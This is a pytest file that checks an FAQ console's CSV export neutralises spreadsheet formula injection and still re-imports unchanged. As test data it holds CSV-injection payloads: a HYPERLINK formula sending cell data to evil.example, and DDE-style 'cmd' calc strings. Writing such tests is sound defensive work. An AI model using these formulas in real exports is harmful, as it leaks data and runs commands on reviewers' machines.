"""L10: CSV exports never hand a spreadsheet a formula, and the FAQ export still re-imports
exactly. The FAQ export is fetched from the running console like staff would."""

from __future__ import annotations

import csv
import io

import pytest

from analytics.tables import rows_to_csv
from askagency.csv_safe import FORMULA_START, csv_safe, csv_unguard
from askagency.db import session_scope
from knowledge_base import io as kbio
from knowledge_base import store
from knowledge_base.store import FaqInput
from tests.unit.console.test_kb_api import Ctx, ctx, seeded, template_db  # noqa: F401 (fixtures)

HOSTILE_QUESTION = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
HOSTILE_VARIANT = "-2+3+cmd('calc')"
HOSTILE_ANSWER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "'=1", "''+x", "'plain", "plain", "", "a=b", "'"],
)
def test_guard_round_trips_and_never_starts_a_formula(text: str) -> None:
    guarded = csv_safe(text)
    assert guarded[:1] not in FORMULA_START
    assert csv_unguard(guarded) == text


def test_dashboard_tables_use_the_shared_guard() -> None:
    out = rows_to_csv(["question", "count"], [("=2+3", 4), (-5, None)])
    assert list(csv.reader(io.StringIO(out))) == [["question", "count"], ["'=2+3", "4"], ["-5", ""]]


async def test_faq_csv_export_neutralises_formulas_and_reimports_unchanged(ctx: Ctx) -> None:  # noqa: F811
    """L10 attack: citizen wording accepted from the unanswered queue (or a hostile editor)
    became an FAQ whose CSV export ran ``=HYPERLINK(...)`` in the reviewer's spreadsheet."""
    with session_scope() as session:
        store.create_faq(
            session,
            FaqInput(
                id="hostile",
                language="en",
                category="general",
                question=HOSTILE_QUESTION,
                answer=HOSTILE_ANSWER,
                variants=(HOSTILE_VARIANT, "plain variant"),
                status="published",
            ),  # type: ignore[arg-type]
            "test",
        )
    viewer = await ctx.as_role("viewer")
    reply = await viewer.get("/api/kb/export?format=csv&status=published")
    assert reply.status == 200
    rows = list(csv.reader(io.StringIO(reply.text)))
    for row in rows:
        for cell in row:
            assert cell[:1] not in FORMULA_START, (row, cell)
    hostile = next(row for row in rows if row[0] == "hostile")
    assert hostile[3] == "'" + HOSTILE_QUESTION
    # The export re-imports to exactly what was stored.
    parsed = kbio.parse_bytes(reply.text.encode(), "csv")
    assert parsed.ok, parsed.errors
    again = next(row for row in parsed.rows if row.id == "hostile")
    assert again.question == HOSTILE_QUESTION and again.answer == HOSTILE_ANSWER
    assert list(again.variants) == [HOSTILE_VARIANT, "plain variant"]
